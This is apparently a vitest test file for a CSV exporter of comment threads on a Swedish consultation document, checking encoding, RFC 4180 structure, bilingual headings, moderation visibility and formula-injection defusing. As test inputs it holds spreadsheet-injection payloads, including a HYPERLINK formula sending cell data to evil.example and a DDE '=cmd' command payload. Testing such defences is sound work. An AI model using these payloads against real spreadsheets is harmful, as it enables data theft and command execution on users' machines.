import { describe, expect, it } from 'vitest';
import { buildAuthor, buildComment, buildThread } from '../../test/buildThread.ts';
import { buildReportRows } from './buildReportRows.ts';
import type { CommentReport } from './CommentReport.ts';
import { toCsv, UTF8_BOM } from './toCsv.ts';

/**
 * A strict RFC 4180 reader: records end in CRLF, fields are quoted when they hold a comma, a
 * quote or a line break, quotes inside are doubled. Throws on anything else, such as a bare LF
 * between records, so the tests catch output that only lenient readers would accept.
 */
function parseCsv(text: string): string[][] {
  const records: string[][] = [];
  let record: string[] = [];
  let at = 0;
  while (at < text.length) {
    let field = '';
    if (text[at] === '"') {
      at += 1;
      for (;;) {
        const quote = text.indexOf('"', at);
        if (quote < 0) throw new Error('unterminated quoted field');
        field += text.slice(at, quote);
        at = quote + 1;
        if (text[at] === '"') {
          field += '"';
          at += 1;
        } else break;
      }
    } else {
      const end = text.slice(at).search(/[,\r\n"]/);
      const stop = end < 0 ? text.length : at + end;
      if (text[stop] === '"') throw new Error(`bare quote at ${stop}`);
      field = text.slice(at, stop);
      at = stop;
    }
    record.push(field);
    if (text[at] === ',') {
      at += 1;
      continue;
    }
    if (text.startsWith('\r\n', at)) {
      records.push(record);
      record = [];
      at += 2;
      continue;
    }
    throw new Error(`expected a comma or CRLF at ${at}, found ${JSON.stringify(text[at])}`);
  }
  if (record.length > 0) throw new Error('last record has no CRLF');
  return records;
}

const editor = buildAuthor('Åsa Öberg', 'Myndigheten för digital förvaltning');
const moderator = buildAuthor('Olle Ägare', 'Finansdepartementet');

function report(viewerRole: 'owner' | 'commenter' = 'commenter'): CommentReport {
  const threads = [
    buildThread({
      id: 't1',
      stance: 'object',
      status: 'resolved',
      resolved: { at: '2025-03-20T09:00:00.000Z', by: editor },
      disposition: {
        value: 'partly-accepted',
        reason: 'Vi förtydligar, se "3.2".',
        at: '2025-03-20T09:05:00.000Z',
        by: editor,
      },
      anchor: { ...buildThread().anchor, exact: 'avgifter, taxor och "andra" pålagor' },
      comments: [
        buildComment({
          id: 't1-c1',
          author: buildAuthor('Bo Ek', 'Sveriges kommuner och regioner'),
          body: 'Första raden, med komma.\nAndra raden med "citat".',
        }),
        buildComment({
          id: 't1-c2',
          author: editor,
          createdAt: '2025-07-01T10:00:00.000Z',
          editedAt: '2025-07-01T10:15:00.000Z',
          body: '=HYPERLINK("https://evil.example/?"&A1,"Klicka här")',
        }),
      ],
    }),
    buildThread({
      id: 't2',
      anchor: {
        ...buildThread().anchor,
        status: 'removed',
        exact: 'den strukna meningen',
        blockId: 'gone',
      },
      comments: [
        buildComment({ id: 't2-c1', deletedAt: '2025-03-16T00:00:00.000Z', body: '' }),
        buildComment({
          id: 't2-c2',
          body: 'Olämpligt innehåll',
          hidden: { at: '2025-03-17T00:00:00.000Z', by: moderator, reason: 'Personuppgifter' },
        }),
      ],
    }),
    buildThread({ id: 't3', comments: [] }),
  ];
  return {
    title: 'Remiss: Öppna data, "version 2"',
    generatedAt: new Date('2025-03-21T13:30:00.000Z'),
    threads: buildReportRows({ threads, labels: new Map([['p1', '3.2 ¶4']]), viewerRole }),
  };
}

const sv = { locale: 'sv', timeZone: 'Europe/Stockholm' } as const;
const en = { locale: 'en', timeZone: 'Europe/Stockholm' } as const;

/** The records of a report without the BOM, failing if it is not strict RFC 4180. */
function records(text: string): string[][] {
  expect(text.startsWith(UTF8_BOM)).toBe(true);
  return parseCsv(text.slice(UTF8_BOM.length));
}

/** The data rows as objects keyed by the (Swedish or English) column headings. */
function table(text: string, headerName: string): Record<string, string>[] {
  const all = records(text);
  const headerIndex = all.findIndex((record) => record[0] === headerName);
  const header = all[headerIndex] ?? [];
  return all
    .slice(headerIndex + 1)
    .map((record) => Object.fromEntries(header.map((name, i) => [name, record[i] ?? ''])));
}

describe('toCsv', () => {
  it('starts with a UTF-8 byte order mark, so Excel reads å, ä and ö', () => {
    const csv = toCsv(report(), sv);
    expect(csv.charCodeAt(0)).toBe(0xfeff);
    const bytes = Buffer.from(csv, 'utf8');
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(bytes.toString('utf8')).toContain('Öppna data');
  });

  it('ends every record with CRLF and has no bare line feed outside quoted fields', () => {
    const csv = toCsv(report(), sv);
    expect(csv.endsWith('\r\n')).toBe(true);
    expect(() => records(csv)).not.toThrow();
  });

  it('gives every record the same number of fields, header lines included', () => {
    const all = records(toCsv(report(), sv));
    const widths = new Set(all.map((record) => record.length));
    expect(widths.size).toBe(1);
  });

  it('opens with the title, the time made, the time zone and the counts', () => {
    const all = records(toCsv(report(), sv));
    expect(all.slice(0, 6).map((record) => record.slice(0, 2))).toEqual([
      ['Dokument', 'Remiss: Öppna data, "version 2"'],
      ['Skapad', '2025-03-21 14:30'],
      ['Tidszon', 'Europe/Stockholm'],
      ['Antal trådar', '3'],
      ['Antal kommentarer', '4'],
      ['', ''],
    ]);
  });

  it('writes one row per comment in order, with the thread repeated on each, in Swedish', () => {
    const rows = table(toCsv(report(), sv), 'Tråd');
    expect(rows.map((row) => [row['Tråd'], row['Inlägg'], row['Författare']])).toEqual([
      ['1', 'Kommentar', 'Bo Ek'],
      ['1', 'Svar', 'Åsa Öberg'],
      ['2', 'Kommentar', 'Anna Andersson'],
      ['2', 'Svar', 'Anna Andersson'],
      ['3', '', ''],
    ]);
    expect(rows[0]).toMatchObject({
      Stycke: '3.2 ¶4',
      Citat: 'avgifter, taxor och "andra" pålagor',
      Textstatus: 'Finns kvar',
      Ställningstagande: 'Invänder',
      Status: 'Löst',
      'Löst av': 'Åsa Öberg (Myndigheten för digital förvaltning)',
      Löst: '2025-03-20 10:00',
      Beslut: 'Godtas delvis',
      Motivering: 'Vi förtydligar, se "3.2".',
      'Beslutat av': 'Åsa Öberg (Myndigheten för digital förvaltning)',
      Beslutat: '2025-03-20 10:05',
      Organisation: 'Sveriges kommuner och regioner',
      Tid: '2025-03-14 09:05',
      Ändrad: '',
      Kommentarsstatus: '',
      Text: 'Första raden, med komma.\nAndra raden med "citat".',
    });
    expect(rows[1]).toMatchObject({ Beslut: 'Godtas delvis', Tid: '2025-07-01 12:00' });
    expect(rows[1]?.['Ändrad']).toBe('2025-07-01 12:15');
  });

  it('writes the same report in English when asked', () => {
    const rows = table(toCsv(report(), en), 'Thread');
    expect(rows[0]).toMatchObject({
      Paragraph: '3.2 ¶4',
      'Text status': 'In place',
      Stance: 'Objects',
      Status: 'Resolved',
      Disposition: 'Partly accepted',
      Entry: 'Comment',
    });
    expect(rows[1]?.['Entry']).toBe('Reply');
    expect(rows[2]?.['Text status']).toBe('Text removed');
    const all = records(toCsv(report(), en));
    expect(all.slice(0, 5).map((record) => record[0])).toEqual([
      'Document',
      'Generated',
      'Time zone',
      'Threads',
      'Comments',
    ]);
  });

  it('defuses a comment written as a spreadsheet formula', () => {
    const csv = toCsv(report(), sv);
    const rows = table(csv, 'Tråd');
    expect(rows[1]?.['Text']).toBe(`'=HYPERLINK("https://evil.example/?"&A1,"Klicka här")`);
    expect(csv).not.toMatch(/(^|,)"?=HYPERLINK/m);
  });

  it('defuses formulas in every field people write: names, organisations, quotes, titles', () => {
    const hostile = buildAuthor("=cmd|' /C calc'!A0", '+SUM(A1:A9)');
    const csv = toCsv(
      {
        title: '@Remiss',
        generatedAt: new Date('2025-03-21T13:30:00.000Z'),
        threads: buildReportRows({
          threads: [
            buildThread({
              anchor: { ...buildThread().anchor, exact: '-1+2' },
              comments: [buildComment({ author: hostile, body: '\t=1+1' })],
            }),
          ],
          labels: new Map(),
          viewerRole: 'owner',
        }),
      },
      sv,
    );
    const all = records(csv);
    for (const record of all) {
      for (const cell of record) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    }
    expect(all[0]?.[1]).toBe("'@Remiss");
    const [row] = table(csv, 'Tråd');
    expect(row).toMatchObject({
      Citat: "'-1+2",
      Författare: "'=cmd|' /C calc'!A0",
      Organisation: "'+SUM(A1:A9)",
      Text: "'\t=1+1",
    });
  });

  it('marks removed text, removed comments and hidden comments for a commenter', () => {
    const rows = table(toCsv(report('commenter'), sv), 'Tråd');
    expect(rows[2]).toMatchObject({
      Stycke: '',
      Citat: 'den strukna meningen',
      Textstatus: 'Texten borttagen',
      Kommentarsstatus: 'Borttagen',
      Text: '',
    });
    expect(rows[3]).toMatchObject({ Kommentarsstatus: 'Dold av moderator', Text: '' });
    const csv = toCsv(report('commenter'), sv);
    expect(csv).not.toContain('Olämpligt innehåll');
    expect(csv).not.toContain('Personuppgifter');
  });

  it('shows an owner the hidden comment, who hid it and why', () => {
    const rows = table(toCsv(report('owner'), sv), 'Tråd');
    expect(rows[3]).toMatchObject({
      Kommentarsstatus: 'Dold av Olle Ägare (Finansdepartementet): Personuppgifter',
      Text: 'Olämpligt innehåll',
    });
    const english = table(toCsv(report('owner'), en), 'Thread');
    expect(english[3]?.['Comment status']).toBe(
      'Hidden by Olle Ägare (Finansdepartementet): Personuppgifter',
    );
  });

  it('writes an empty report as the header lines and the column headings', () => {
    const csv = toCsv({ title: 'Tomt', generatedAt: new Date(0), threads: [] }, sv);
    const all = records(csv);
    expect(all).toHaveLength(7);
    expect(all[3]?.[1]).toBe('0');
    expect(all[6]?.[0]).toBe('Tråd');
  });
});
